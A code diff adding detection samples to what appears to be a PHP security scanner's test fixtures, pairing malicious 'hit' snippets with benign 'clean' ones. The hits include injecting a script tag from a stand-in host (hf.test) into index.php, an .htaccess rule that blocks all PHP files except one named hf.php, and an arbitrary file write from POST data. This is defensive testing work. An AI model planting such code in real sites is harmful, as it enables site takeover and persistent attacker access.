@@ -185,4 +185,14 @@ export const taintSamples: readonly Sample[] = [
     hit: "file_put_c~ontents($_PO~ST['n'], $_PO~ST['c']);",
     clean: "file_put_c~ontents('guests.txt', $_PO~ST['c']);",
   },
+  {
+    rule: taintRule.writeMarkup,
+    hit: "$p = 'index.php'; $c = file_get_contents($p); file_put_c~ontents($p, '<scr~ipt src=//hf.test/a.js></script>' . $c);",
+    clean: "$p = 'index.txt'; $c = file_get_contents($p); file_put_c~ontents($p, 'head ' . $c);",
+  },
+  {
+    rule: taintRule.writeLockOut,
+    hit: raw`file_put_c~ontents('.htaccess', "<FilesMatch '.(py|php)$'>\nDeny from all\n</FilesMatch>\n<FilesMatch '^hf.php$'>\nAllow from all\n</FilesMatch>");`,
+    clean: raw`file_put_c~ontents('.htaccess', "<FilesMatch '.(py|php)$'>\nDeny from all\n</FilesMatch>");`,
+  },
 ]
